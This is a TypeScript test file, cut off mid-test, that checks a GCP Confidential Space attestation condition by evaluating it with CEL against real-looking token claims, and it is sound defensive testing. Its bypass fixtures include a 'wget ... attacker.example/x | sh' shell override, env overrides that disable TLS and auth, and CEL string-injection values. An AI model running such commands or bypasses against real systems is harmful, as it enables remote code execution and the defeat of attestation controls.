/**
 * The Confidential Space attribute condition and mapping, checked by evaluating them with a real
 * CEL evaluator (@marcbachmann/cel-js) against realistic token claims, not by reading strings.
 *
 * Every negative case is the production token with exactly one claim changed (or, for another
 * project's VM, the claims that describe the project changed together), and the production token
 * itself passes, so no negative can pass because of some other, unrelated mismatch.
 */
import { describe, expect, it } from "vitest";
import { EvaluationError, ParseError, evaluate, parse } from "@marcbachmann/cel-js";
import {
  ATTRIBUTE_CONDITION_MAX_LENGTH,
  CONFIDENTIAL_SPACE_AUDIENCE,
  CONFIDENTIAL_SPACE_ISSUER,
  GCP_PROJECT_ID,
  USER_MANAGED_SERVICE_ACCOUNT_EMAIL,
  attestedPrincipalSets,
  buildConfidentialSpaceAttributeCondition,
  celStringLiteral,
  confidentialSpaceAttributeMapping,
  type ConfidentialSpacePins,
} from "../../src/attestation/gcp-workload-identity";

// ---------------------------------------------------------------------------------------------
// Fixtures: token claims as Google Cloud Attestation issues them to the Confidential Space launcher
// (shape from the token-claims reference).
// ---------------------------------------------------------------------------------------------

const DIGEST_V631 = "sha256:4f1c0e5b8a2d7c9e3f6a1b4d8c2e5f7a9b3d6c1e4f8a2b5d7c9e1f3a6b8d2c4e";
const DIGEST_V640 = "sha256:9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b";
const DIGEST_OTHER = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

const PROJECT_ID = "midnight-prover-prod";
const SERVICE_ACCOUNT = `proof-server@${PROJECT_ID}.iam.gserviceaccount.com`;
const PROJECT_NUMBER = "123456789012";
const INSTANCE_ID = "7333251546816446069";
const ZONE = "us-central1-a";
const INSTANCE_NAME = "proof-server-7k2p";
const IMAGE_REPO = `us-docker.pkg.dev/${PROJECT_ID}/proof-server/proof-server`;

type Claims = Record<string, unknown>;

function productionToken(digest: string = DIGEST_V631): Claims {
  return {
    aud: CONFIDENTIAL_SPACE_AUDIENCE,
    iss: "https://confidentialcomputing.googleapis.com",
    sub: `https://www.googleapis.com/compute/v1/projects/${PROJECT_ID}/zones/${ZONE}/instances/${INSTANCE_NAME}`,
    iat: 1767225600,
    nbf: 1767225600,
    exp: 1767229200,
    eat_profile: "https://cloud.google.com/confidential-computing/confidential-space/docs/reference/token-claims",
    secboot: true,
    oemid: 11129,
    hwmodel: "GCP_AMD_SEV",
    swname: "CONFIDENTIAL_SPACE",
    swversion: ["250301"],
    dbgstat: "disabled-since-boot",
    google_service_accounts: [SERVICE_ACCOUNT],
    submods: {
      confidential_space: { support_attributes: ["LATEST", "STABLE", "USABLE"], monitoring_enabled: { memory: false } },
      container: {
        image_reference: `${IMAGE_REPO}@${digest}`,
        image_digest: digest,
        image_id: "sha256:5d41402abc4b2a76b9719d911017c592ae2f5b8b3e1c6d7f8a9b0c1d2e3f4a5b",
        restart_policy: "Never",
        cmd_override: [],
        env_override: {},
        env: { HOSTNAME: INSTANCE_NAME, PATH: "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin" },
        args: ["midnight-proof-server"],
      },
      gce: {
        zone: ZONE,
        project_id: PROJECT_ID,
        project_number: PROJECT_NUMBER,
        instance_name: INSTANCE_NAME,
        instance_id: INSTANCE_ID,
      },
    },
  };
}

/** The production token with one change applied to a deep copy. */
function tokenWith(change: (claims: Claims & { submods: Record<string, Record<string, unknown>> }) => void): Claims {
  const claims = structuredClone(productionToken()) as Claims & { submods: Record<string, Record<string, unknown>> };
  change(claims);
  return claims;
}

/** Runs a CEL expression the way the provider does: the token's claims bound to `assertion`. */
function run(expression: string, claims: Claims): unknown {
  return evaluate(expression, { assertion: claims });
}

/** Our pins with the given digests: AMD SEV, no environment override (the committed stacks). */
function pinsFor(imageDigests: string[], more: Partial<ConfidentialSpacePins> = {}): ConfidentialSpacePins {
  return { imageDigests, projectId: PROJECT_ID, serviceAccountEmail: SERVICE_ACCOUNT, technology: "SEV", envOverride: {}, ...more };
}

const single = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631]));
const rotation = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631, DIGEST_V640]));

/**
 * The same public image, same digest, on a production Confidential Space VM in someone else's
 * project, running as that project's service account: everything but the project is identical.
 */
function otherProjectToken(): Claims {
  const other = "attacker-project-42";
  return tokenWith((c) => {
    c.sub = `https://www.googleapis.com/compute/v1/projects/${other}/zones/${ZONE}/instances/${INSTANCE_NAME}`;
    c.google_service_accounts = [`proof-server@${other}.iam.gserviceaccount.com`];
    c.submods.container!.image_reference = `midnightntwrk/proof-server@${DIGEST_V631}`;
    c.submods.gce!.project_id = other;
    c.submods.gce!.project_number = "987654321098";
  });
}

/**
 * The condition before issue 13, verbatim: it pinned neither the hardware nor the overrides. Kept
 * so the bypass tokens below are shown to pass it and fail ours.
 */
const BEFORE_ISSUE_13 =
  'assertion.swname == "CONFIDENTIAL_SPACE" && assertion.dbgstat == "disabled-since-boot" && ' +
  '"STABLE" in assertion.submods.confidential_space.support_attributes && ' +
  'assertion.submods.gce.project_id == "midnight-prover-prod" && ' +
  '"proof-server@midnight-prover-prod.iam.gserviceaccount.com" in assertion.google_service_accounts && ' +
  `assertion.submods.container.image_digest in ["${DIGEST_V631}"]`;

/** "No override" for a claim, as the condition spells it. */
const NO_CMD_OVERRIDE =
  "(!has(assertion.submods.container.cmd_override) || assertion.submods.container.cmd_override == null || " +
  "size(assertion.submods.container.cmd_override) == 0)";
const NO_ENV_OVERRIDE =
  "(!has(assertion.submods.container.env_override) || assertion.submods.container.env_override == null || " +
  "size(assertion.submods.container.env_override) == 0)";

/** Length of the two-digest condition with our pins (counted once by hand, pinned here). */
const ROTATION_LENGTH = 517 + ' && assertion.hwmodel == "GCP_AMD_SEV"'.length + 4 + NO_CMD_OVERRIDE.length + 4 + NO_ENV_OVERRIDE.length;

describe("buildConfidentialSpaceAttributeCondition: exact output", () => {
  it("one digest -> the condition a reviewer reads", () => {
    expect(single).toBe(
      'assertion.swname == "CONFIDENTIAL_SPACE" && ' +
        'assertion.dbgstat == "disabled-since-boot" && ' +
        '"STABLE" in assertion.submods.confidential_space.support_attributes && ' +
        'assertion.submods.gce.project_id == "midnight-prover-prod" && ' +
        '"proof-server@midnight-prover-prod.iam.gserviceaccount.com" in assertion.google_service_accounts && ' +
        'assertion.submods.container.image_digest in ["sha256:4f1c0e5b8a2d7c9e3f6a1b4d8c2e5f7a9b3d6c1e4f8a2b5d7c9e1f3a6b8d2c4e"] && ' +
        'assertion.hwmodel == "GCP_AMD_SEV" && ' +
        '(!has(assertion.submods.container.cmd_override) || assertion.submods.container.cmd_override == null || size(assertion.submods.container.cmd_override) == 0) && ' +
        '(!has(assertion.submods.container.env_override) || assertion.submods.container.env_override == null || size(assertion.submods.container.env_override) == 0)',
    );
    expect(single).toBe(`${BEFORE_ISSUE_13} && assertion.hwmodel == "GCP_AMD_SEV" && ${NO_CMD_OVERRIDE} && ${NO_ENV_OVERRIDE}`);
  });

  it("TDX -> the Intel hwmodel; configured overrides -> an exact map, keys sorted, values quoted", () => {
    const tdx = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { technology: "TDX" }));
    expect(tdx).toBe(single.replace('assertion.hwmodel == "GCP_AMD_SEV"', 'assertion.hwmodel == "GCP_INTEL_TDX"'));
    const withEnv = buildConfidentialSpaceAttributeCondition(
      pinsFor([DIGEST_V631], { envOverride: { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8", A_FIRST: 'quote " here' } }),
    );
    expect(withEnv).toBe(
      single.replace(
        NO_ENV_OVERRIDE,
        'assertion.submods.container.env_override == {"A_FIRST": "quote \\" here", "MIDNIGHT_PROOF_SERVER_NUM_WORKERS": "8"}',
      ),
    );
  });

  it("two digests -> one list, in the given order, well under GCP's 4096-character limit", () => {
    expect(rotation).toBe(
      single.replace(`["${DIGEST_V631}"]`, `["${DIGEST_V631}", "${DIGEST_V640}"]`),
    );
    expect(rotation.length).toBe(ROTATION_LENGTH);
    expect(rotation.length).toBeLessThan(ATTRIBUTE_CONDITION_MAX_LENGTH);
    expect(ATTRIBUTE_CONDITION_MAX_LENGTH).toBe(4096);
  });

  it("the longest possible pins (two digests, 30-character project and account IDs) stay under 4096", () => {
    const project = `p${"x".repeat(28)}9`;
    const email = `a${"y".repeat(28)}9@${project}.iam.gserviceaccount.com`;
    expect(project).toMatch(GCP_PROJECT_ID);
    expect(project).toHaveLength(30);
    expect(email).toMatch(USER_MANAGED_SERVICE_ACCOUNT_EMAIL);
    expect(email).toHaveLength(85);
    const longest = buildConfidentialSpaceAttributeCondition({
      imageDigests: [DIGEST_V631, DIGEST_V640],
      projectId: project,
      serviceAccountEmail: email,
      technology: "SEV",
      envOverride: {},
    });
    expect(longest).toBe(
      rotation.replaceAll(SERVICE_ACCOUNT, email).replaceAll(`"${PROJECT_ID}"`, `"${project}"`),
    );
    expect(longest.length).toBe(ROTATION_LENGTH + (30 - PROJECT_ID.length) + (85 - SERVICE_ACCOUNT.length));
    expect(longest.length).toBeLessThan(ATTRIBUTE_CONDITION_MAX_LENGTH);
  });

  it("both conditions parse", () => {
    expect(typeof parse(single)).toBe("function");
    expect(typeof parse(rotation)).toBe("function");
  });

  it("issuer and audience constants", () => {
    expect(CONFIDENTIAL_SPACE_ISSUER).toBe("https://confidentialcomputing.googleapis.com/");
    expect(CONFIDENTIAL_SPACE_AUDIENCE).toBe("https://sts.googleapis.com");
  });
});

describe("attribute condition, evaluated (cel-js)", () => {
  describe("accepted", () => {
    it("production token running the pinned digest -> true", () => {
      expect(run(single, productionToken())).toBe(true);
    });

    it("during a rotation: either release -> true", () => {
      expect(run(rotation, productionToken(DIGEST_V631))).toBe(true);
      expect(run(rotation, productionToken(DIGEST_V640))).toBe(true);
    });

    it("Intel TDX hardware under TDX pins -> true", () => {
      const tdx = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { technology: "TDX" }));
      expect(run(tdx, tokenWith((c) => { c.hwmodel = "GCP_INTEL_TDX"; c.attester_tcb = ["INTEL"]; }))).toBe(true);
    });

    // Google documents `size(...) == 0` for "not overridden"; tokens without overrides have been seen
    // without the claims at all; a nil Go slice or map would be null. All mean "no override".
    it.each([
      ["cmd_override []", tokenWith((c) => { c.submods.container!.cmd_override = []; })],
      ["cmd_override absent", tokenWith((c) => { delete c.submods.container!.cmd_override; })],
      ["cmd_override null", tokenWith((c) => { c.submods.container!.cmd_override = null; })],
      ["env_override {}", tokenWith((c) => { c.submods.container!.env_override = {}; })],
      ["env_override absent", tokenWith((c) => { delete c.submods.container!.env_override; })],
      ["env_override null", tokenWith((c) => { c.submods.container!.env_override = null; })],
      ["both absent", tokenWith((c) => { delete c.submods.container!.cmd_override; delete c.submods.container!.env_override; })],
    ])("no override, said as %s -> true", (_name, claims) => {
      expect(run(single, claims)).toBe(true);
      expect(run(rotation, claims)).toBe(true);
    });

    it("the configured overrides exactly (proofServer.env), in any key order -> true", () => {
      const env = { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8", MIDNIGHT_PROOF_SERVER_LOG: "info" };
      const condition = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { envOverride: env }));
      const claims = tokenWith((c) => {
        c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_LOG: "info", MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" };
      });
      expect(run(condition, claims)).toBe(true);
    });

    it("our service account listed alongside another -> true (`in` is membership)", () => {
      const claims = tokenWith((c) => {
        c.google_service_accounts = [`${PROJECT_NUMBER}-compute@developer.gserviceaccount.com`, SERVICE_ACCOUNT];
      });
      expect(run(single, claims)).toBe(true);
    });

    it("STABLE without LATEST (an image a month or more old, still supported) -> true", () => {
      const claims = tokenWith((c) => { c.submods.confidential_space!.support_attributes = ["STABLE", "USABLE"]; });
      expect(run(single, claims)).toBe(true);
    });
  });

  describe("refused", () => {
    const refusals: Array<[string, Claims]> = [
      ["debug image: dbgstat \"enabled\" (token-claims reference)", tokenWith((c) => { c.dbgstat = "enabled"; })],
      ["debug image: dbgstat \"enable\" (attestation-assertions reference spells it so)", tokenWith((c) => { c.dbgstat = "enable"; })],
      [
        "a realistic debug token: dbgstat enabled and no support attributes",
        tokenWith((c) => { c.dbgstat = "enabled"; c.submods.confidential_space!.support_attributes = []; }),
      ],
      ["a digest that is not pinned", productionToken(DIGEST_OTHER)],
      [
        "the pinned digest in upper case",
        productionToken(DIGEST_V631.replace(/[0-9a-f]{64}$/, (hex) => hex.toUpperCase())),
      ],
      [
        "the digest claim holding the full image reference",
        tokenWith((c) => { c.submods.container!.image_digest = `${IMAGE_REPO}@${DIGEST_V631}`; }),
      ],
      [
        "support attributes without STABLE: [LATEST, USABLE]",
        tokenWith((c) => { c.submods.confidential_space!.support_attributes = ["LATEST", "USABLE"]; }),
      ],
      [
        "support attributes USABLE only (out of support)",
        tokenWith((c) => { c.submods.confidential_space!.support_attributes = ["USABLE"]; }),
      ],
      [
        "support attributes EXPERIMENTAL only",
        tokenWith((c) => { c.submods.confidential_space!.support_attributes = ["EXPERIMENTAL"]; }),
      ],
      ["support attributes empty", tokenWith((c) => { c.submods.confidential_space!.support_attributes = []; })],
      [
        "support attributes with a lower-case stable",
        tokenWith((c) => { c.submods.confidential_space!.support_attributes = ["stable"]; }),
      ],
      ["swname GCE (a plain Confidential VM, same issuer)", tokenWith((c) => { c.swname = "GCE"; })],
      ["swname in lower case", tokenWith((c) => { c.swname = "confidential_space"; })],
      ["swname empty", tokenWith((c) => { c.swname = ""; })],
      ["another project's VM running the pinned digest (the public image)", otherProjectToken()],
      [
        "another project ID, our service account still listed (project clause alone)",
        tokenWith((c) => { c.submods.gce!.project_id = "attacker-project-42"; }),
      ],
      [
        "a project ID that only extends ours",
        tokenWith((c) => { c.submods.gce!.project_id = `${PROJECT_ID}-2`; }),
      ],
      ["the project number in place of the project ID", tokenWith((c) => { c.submods.gce!.project_id = PROJECT_NUMBER; })],
      [
        "our project, the default compute service account (service-account clause alone)",
        tokenWith((c) => { c.google_service_accounts = [`${PROJECT_NUMBER}-compute@developer.gserviceaccount.com`]; }),
      ],
      [
        "our project, a service account of the same name in another project",
        tokenWith((c) => { c.google_service_accounts = ["proof-server@attacker-project-42.iam.gserviceaccount.com"]; }),
      ],
      [
        "our service account e-mail in upper case",
        tokenWith((c) => { c.google_service_accounts = [SERVICE_ACCOUNT.toUpperCase()]; }),
      ],
      ["google_service_accounts empty (no service account attached)", tokenWith((c) => { c.google_service_accounts = []; })],
    ];

    it.each(refusals)("%s -> false", (_name, claims) => {
      expect(run(single, claims)).toBe(false);
      expect(run(rotation, claims)).toBe(false);
    });

    it("releases outside the list: the next one before it is pinned, the old one after it is dropped -> false", () => {
      expect(run(single, productionToken(DIGEST_V640))).toBe(false);
      const next = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V640]));
      expect(run(next, productionToken(DIGEST_V631))).toBe(false);
      expect(run(next, productionToken(DIGEST_V640))).toBe(true);
    });

    it("a real Confidential VM token (swname GCE, no confidential_space or container submods) -> false, not an error", () => {
      // CEL's && is commutative over errors: one false operand makes the whole conjunction false
      // even though the missing submods make the other operands errors.
      const cvm: Claims = {
        aud: CONFIDENTIAL_SPACE_AUDIENCE,
        iss: "https://confidentialcomputing.googleapis.com",
        sub: `https://www.googleapis.com/compute/v1/projects/${PROJECT_ID}/zones/${ZONE}/instances/${INSTANCE_NAME}`,
        secboot: true,
        oemid: 11129,
        hwmodel: "GCP_AMD_SEV",
        swname: "GCE",
        dbgstat: "enabled",
        submods: { gce: { zone: ZONE, project_id: PROJECT_ID, project_number: PROJECT_NUMBER, instance_name: INSTANCE_NAME, instance_id: INSTANCE_ID } },
        google_service_accounts: [`${PROJECT_NUMBER}-compute@developer.gserviceaccount.com`],
      };
      expect(run(single, cvm)).toBe(false);
    });
  });

  describe("overrides and hardware (issue 13): each token passed the condition before, none passes now", () => {
    const SHELL = ["sh", "-c", "wget -qO- https://attacker.example/x | sh"];
    // Each is the production token for the pinned digest, in our project, as our service account,
    // with one thing an operator who can create a VM as that account could change.
    const bypasses: Array<[string, Claims]> = [
      ["cmd_override: a shell (tee-cmd)", tokenWith((c) => { c.submods.container!.cmd_override = SHELL; })],
      ["cmd_override: the server with an extra flag", tokenWith((c) => { c.submods.container!.cmd_override = ["midnight-proof-server", "--no-auth"]; })],
      ["cmd_override: one empty string", tokenWith((c) => { c.submods.container!.cmd_override = [""]; })],
      ["cmd_override as a string, not a list", tokenWith((c) => { c.submods.container!.cmd_override = "sh -c id"; })],
      [
        "env_override turning TLS and auth off (tee-env-*)",
        tokenWith((c) => {
          c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_DISABLE_TLS: "true", MIDNIGHT_PROOF_SERVER_REQUIRE_API_KEY: "false" };
        }),
      ],
      ["env_override setting one variable", tokenWith((c) => { c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "64" }; })],
      ["env_override with an empty value", tokenWith((c) => { c.submods.container!.env_override = { LD_PRELOAD: "" }; })],
      ["hwmodel GCP_SHIELDED_VM (no memory encryption)", tokenWith((c) => { c.hwmodel = "GCP_SHIELDED_VM"; })],
      ["hwmodel GCP_AMD_SEV_ES (not what the template asks for)", tokenWith((c) => { c.hwmodel = "GCP_AMD_SEV_ES"; })],
      ["hwmodel GCP_INTEL_TDX on a SEV stack", tokenWith((c) => { c.hwmodel = "GCP_INTEL_TDX"; c.attester_tcb = ["INTEL"]; })],
      ["hwmodel in lower case", tokenWith((c) => { c.hwmodel = "gcp_amd_sev"; })],
      ["hwmodel empty", tokenWith((c) => { c.hwmodel = ""; })],
    ];

    it.each(bypasses)("%s -> true before, false or an error (refused) now", (_name, claims) => {
      expect(run(BEFORE_ISSUE_13, claims)).toBe(true);
      for (const condition of [single, rotation]) {
        let result: unknown;
        try {
          result = run(condition, claims);
        } catch (error) {
          // A string cmd_override makes the size() operand an error only if no operand is false;
          // either way the provider sees no `true`.
          expect(error).toBeInstanceOf(EvaluationError);
          result = "refused (error)";
        }
        expect(result).not.toBe(true);
      }
    });

    it("a shell command override is false, not merely an error", () => {
      expect(run(single, bypasses[0]![1])).toBe(false);
      expect(run(single, bypasses[4]![1])).toBe(false);
    });

    it("TDX pins refuse an AMD token and a Shielded VM token", () => {
      const tdx = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { technology: "TDX" }));
      expect(run(tdx, productionToken())).toBe(false);
      expect(run(tdx, tokenWith((c) => { c.hwmodel = "GCP_SHIELDED_VM"; }))).toBe(false);
    });

    describe("with configured overrides (proofServer.env = {MIDNIGHT_PROOF_SERVER_NUM_WORKERS: \"8\"})", () => {
      const withEnv = buildConfidentialSpaceAttributeCondition(
        pinsFor([DIGEST_V631], { envOverride: { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" } }),
      );
      const envToken = (env: unknown): Claims => tokenWith((c) => { c.submods.container!.env_override = env; });

      it("exactly the configured override -> true", () => {
        expect(run(withEnv, envToken({ MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" }))).toBe(true);
      });

      it.each([
        ["one more variable", { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8", MIDNIGHT_PROOF_SERVER_DISABLE_TLS: "true" }],
        ["another value", { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "9" }],
        ["the value as a number", { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: 8 }],
        ["another variable instead", { MIDNIGHT_PROOF_SERVER_DISABLE_TLS: "true" }],
        ["no override ({})", {}],
        ["null", null],
        ["a list", ["MIDNIGHT_PROOF_SERVER_NUM_WORKERS=8"]],
      ])("%s -> false", (_name, env) => {
        expect(run(withEnv, envToken(env))).toBe(false);
      });

      it("the claim absent -> an evaluation error (refused): the launcher did not apply the configured override", () => {
        expect(() => run(withEnv, tokenWith((c) => { delete c.submods.container!.env_override; }))).toThrow(EvaluationError);
      });

      it("a command override is still refused", () => {
        const claims = tokenWith((c) => {
          c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" };
          c.submods.container!.cmd_override = SHELL;
        });
        expect(run(withEnv, claims)).toBe(false);
      });

      it("a value that tries to end the literal stays a string", () => {
        const hostile = buildConfidentialSpaceAttributeCondition(
          pinsFor([DIGEST_V631], { envOverride: { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: '8"} || true || {"a": "' } }),
        );
        expect(run(hostile, envToken({ MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" }))).toBe(false);
        expect(run(hostile, envToken({ MIDNIGHT_PROOF_SERVER_NUM_WORKERS: '8"} || true || {"a": "' }))).toBe(true);
      });
    });
  });

  describe("missing claims: an evaluation error, which the provider treats as a refusal", () => {
    // cel-js follows the CEL spec: selecting an absent key is an error ("no_such_key"), not false.
    // An error is only absorbed when another operand of && is false. Workload Identity accepts a
    // credential only when the condition outputs true; an error outputs no boolean, so the token
    // exchange is refused (fail closed). The cases below are otherwise-production tokens, so every
    // other operand is true and the error is what the provider sees.
    const missing: Array<[string, Claims]> = [
      ["no submods.container", tokenWith((c) => { delete c.submods.container; })],
      ["no submods.container.image_digest", tokenWith((c) => { delete c.submods.container!.image_digest; })],
      ["no submods.confidential_space", tokenWith((c) => { delete c.submods.confidential_space; })],
      ["no support_attributes", tokenWith((c) => { delete c.submods.confidential_space!.support_attributes; })],
      ["no dbgstat", tokenWith((c) => { delete c.dbgstat; })],
      ["no swname", tokenWith((c) => { delete c.swname; })],
      ["no hwmodel", tokenWith((c) => { delete c.hwmodel; })],
      ["no submods.gce", tokenWith((c) => { delete c.submods.gce; })],
      ["no submods.gce.project_id", tokenWith((c) => { delete c.submods.gce!.project_id; })],
      ["no google_service_accounts", tokenWith((c) => { delete c.google_service_accounts; })],
      ["no submods at all", tokenWith((c) => { delete (c as Claims).submods; })],
    ];

    it.each(missing)("%s -> throws EvaluationError (no_such_key)", (_name, claims) => {
      for (const condition of [single, rotation]) {
        let caught: unknown;
        try {
          run(condition, claims);
        } catch (error) {
          caught = error;
        }
        expect(caught).toBeInstanceOf(EvaluationError);
        expect((caught as EvaluationError & { code: string }).code).toBe("no_such_key");
      }
    });

    it("missing google_service_accounts in another project's token -> false (the project clause is false)", () => {
      const claims = otherProjectToken();
      delete claims.google_service_accounts;
      expect(run(single, claims)).toBe(false);
    });

    it("google_service_accounts as a string instead of a list -> throws (no `in` overload), also a refusal", () => {
      const claims = tokenWith((c) => { c.google_service_accounts = SERVICE_ACCOUNT; });
      expect(() => run(single, claims)).toThrow(EvaluationError);
    });

    it("support_attributes as a string instead of a list -> throws (no `in` overload), also a refusal", () => {
      const claims = tokenWith((c) => { c.submods.confidential_space!.support_attributes = "STABLE"; });
      expect(() => run(single, claims)).toThrow(EvaluationError);
    });
  });

  describe("the harness really parses and evaluates", () => {
    it.each([
      ["dangling &&", 'assertion.swname == "CONFIDENTIAL_SPACE" &&'],
      ["assignment instead of comparison", 'assertion.swname = "CONFIDENTIAL_SPACE"'],
      ["unterminated string", 'assertion.swname == "CONFIDENTIAL_SPACE'],
      ["unclosed list", single.slice(0, -1)],
    ])("%s -> ParseError", (_name, broken) => {
      expect(() => run(broken, productionToken())).toThrow(ParseError);
    });

    it("a condition on an unbound variable -> EvaluationError (the context is what binds `assertion`)", () => {
      expect(() => evaluate(single, {})).toThrow(EvaluationError);
    });
  });

  describe("control: a condition that pins only the digest (so the negatives above mean something)", () => {
    const digestOnly = `assertion.submods.container.image_digest in ["${DIGEST_V631}"]`;

    it.each([
      ["debug image", tokenWith((c) => { c.dbgstat = "enabled"; c.submods.confidential_space!.support_attributes = []; })],
      ["out-of-support image", tokenWith((c) => { c.submods.confidential_space!.support_attributes = ["USABLE"]; })],
      ["swname GCE", tokenWith((c) => { c.swname = "GCE"; })],
      ["another project's VM", otherProjectToken()],
      ["our project, another service account", tokenWith((c) => { c.google_service_accounts = [`${PROJECT_NUMBER}-compute@developer.gserviceaccount.com`]; })],
      ["no service account attached", tokenWith((c) => { c.google_service_accounts = []; })],
    ])("%s -> true under the digest-only condition, false under ours", (_name, claims) => {
      expect(run(digestOnly, claims)).toBe(true);
      expect(run(single, claims)).toBe(false);
    });
  });
});

describe("confidentialSpaceAttributeMapping", () => {
  const mapping = confidentialSpaceAttributeMapping();

  it("exact mapping", () => {
    expect(mapping).toEqual({
      "google.subject":
        '"gcpcs::" + assertion.submods.container.image_digest + "::" + assertion.submods.gce.project_number + "::" + assertion.submods.gce.instance_id',
      "attribute.image_digest": "assertion.submods.container.image_digest",
    });
  });

  it("evaluates against the production token to the expected values", () => {
    const claims = productionToken();
    expect(run(mapping["google.subject"]!, claims)).toBe(`gcpcs::${DIGEST_V631}::${PROJECT_NUMBER}::${INSTANCE_ID}`);
    expect(run(mapping["attribute.image_digest"]!, claims)).toBe(DIGEST_V631);
  });

  it("google.subject differs per instance and per image, so it is unique per workload", () => {
    const subject = (claims: Claims): unknown => run(mapping["google.subject"]!, claims);
    const base = subject(productionToken());
    expect(subject(tokenWith((c) => { c.submods.gce!.instance_id = "7333251546816446070"; }))).not.toBe(base);
    expect(subject(productionToken(DIGEST_V640))).not.toBe(base);
    // ...and it does not change with the hourly token refresh.
    expect(subject(tokenWith((c) => { c.iat = 1767229200; c.exp = 1767232800; }))).toBe(base);
  });

  it("google.subject stays within GCP's 127 bytes with the longest numbers (uint64 project number and instance id)", () => {
    const longest = tokenWith((c) => {
      c.submods.gce!.project_number = "18446744073709551615";
      c.submods.gce!.instance_id = "18446744073709551615";
    });
    const subject = run(mapping["google.subject"]!, longest) as string;
    expect(Buffer.byteLength(subject, "utf8")).toBe(122);
    // Control: the raw `sub` (instance self link) can exceed the limit, which is why we do not map it.
    const longSub = `https://www.googleapis.com/compute/v1/projects/${"p".repeat(30)}/zones/northamerica-northeast1-a/instances/${"i".repeat(63)}`;
    expect(Buffer.byteLength(longSub, "utf8")).toBeGreaterThan(127);
  });

  it("attribute names and expressions fit GCP's rules (keys [a-z0-9_] up to 100, expressions up to 2048)", () => {
    for (const [key, expression] of Object.entries(mapping)) {
      expect(key).toMatch(/^(google\.subject|attribute\.[a-z0-9_]{1,100})$/);
      expect(expression.length).toBeLessThanOrEqual(2048);
      expect(typeof parse(expression)).toBe("function");
    }
  });

  it("a token without submods.container -> google.subject is an evaluation error (no credential is minted)", () => {
    expect(() => run(mapping["google.subject"]!, tokenWith((c) => { delete c.submods.container; }))).toThrow(
      EvaluationError,
    );
  });
});

describe("attestedPrincipalSets: who may read the secrets", () => {
  const POOL = `projects/${PROJECT_NUMBER}/locations/global/workloadIdentityPools/prover-pool-a1b2c3`;
  const mapping = confidentialSpaceAttributeMapping();

  it("one principal set per pinned digest, by attribute.image_digest, in this pool; never the whole pool", () => {
    expect(attestedPrincipalSets(POOL, [DIGEST_V631])).toEqual([
      `principalSet://iam.googleapis.com/projects/${PROJECT_NUMBER}/locations/global/workloadIdentityPools/prover-pool-a1b2c3/attribute.image_digest/${DIGEST_V631}`,
    ]);
    const rotation = attestedPrincipalSets(POOL, [DIGEST_V631, DIGEST_V640]);
    expect(rotation).toEqual([
      `principalSet://iam.googleapis.com/${POOL}/attribute.image_digest/${DIGEST_V631}`,
      `principalSet://iam.googleapis.com/${POOL}/attribute.image_digest/${DIGEST_V640}`,
    ]);
    expect(rotation.some((m) => m.endsWith("/*"))).toBe(false);
  });

  it("the attribute a token admitted by our provider carries names exactly one of those members", () => {
    const members = attestedPrincipalSets(POOL, [DIGEST_V631, DIGEST_V640]);
    const memberOf = (claims: Claims) => `principalSet://iam.googleapis.com/${POOL}/attribute.image_digest/${String(run(mapping["attribute.image_digest"]!, claims))}`;
    expect(members.filter((m) => m === memberOf(productionToken(DIGEST_V631)))).toHaveLength(1);
    expect(members.filter((m) => m === memberOf(productionToken(DIGEST_V640)))).toHaveLength(1);
    // A token of another image could only carry another digest: no member matches it.
    expect(members).not.toContain(memberOf(productionToken(DIGEST_OTHER)));
  });

  it.each([
    ["the pool id alone", "prover-pool-a1b2c3"],
    ["the project ID instead of the number", `projects/${PROJECT_ID}/locations/global/workloadIdentityPools/prover-pool-a1b2c3`],
    ["a provider's name", `${POOL}/providers/prover-cs-a1b2c3`],
    ["a trailing slash", `${POOL}/`],
  ])("a pool name that is %s -> throws", (_name, pool) => {
    expect(() => attestedPrincipalSets(pool, [DIGEST_V631])).toThrow(/is not projects\/<project number>\/locations\/global\/workloadIdentityPools\/<pool id>/);
  });

  it("digests are validated like the condition's: none, a tag, three", () => {
    expect(() => attestedPrincipalSets(POOL, [])).toThrow(/imageDigests is empty/);
    expect(() => attestedPrincipalSets(POOL, ["latest"])).toThrow(/imageDigests\[0\] "latest" is not an image digest/);
    expect(() => attestedPrincipalSets(POOL, [DIGEST_V631, DIGEST_V640, DIGEST_OTHER])).toThrow(/at most two/);
  });
});

describe("celStringLiteral", () => {
  it.each([
    ["plain digest", DIGEST_V631, `"${DIGEST_V631}"`],
    ["double quote", 'a"b', '"a\\"b"'],
    ["backslash", "a\\b", '"a\\\\b"'],
    ["newline", "a\nb", '"a\\u000ab"'],
    ["non-ASCII", "é", '"\\u00e9"'],
    ["astral", "🔐", '"\\U0001f510"'],
  ])("%s -> exact literal", (_name, value, literal) => {
    expect(celStringLiteral(value)).toBe(literal);
  });

  it.each([
    'a"b',
    "a\\b",
    "it's",
    "line1\nline2\ttab\r",
    "\u0000\u001f\u007f",
    "é 日本 🔐",
    '" || true || "',
    "\\\"",
  ])("round-trips through the evaluator: %j", (value) => {
    expect(evaluate(celStringLiteral(value))).toBe(value);
  });

  it("an injection attempt stays a string: the comparison is false, not true", () => {
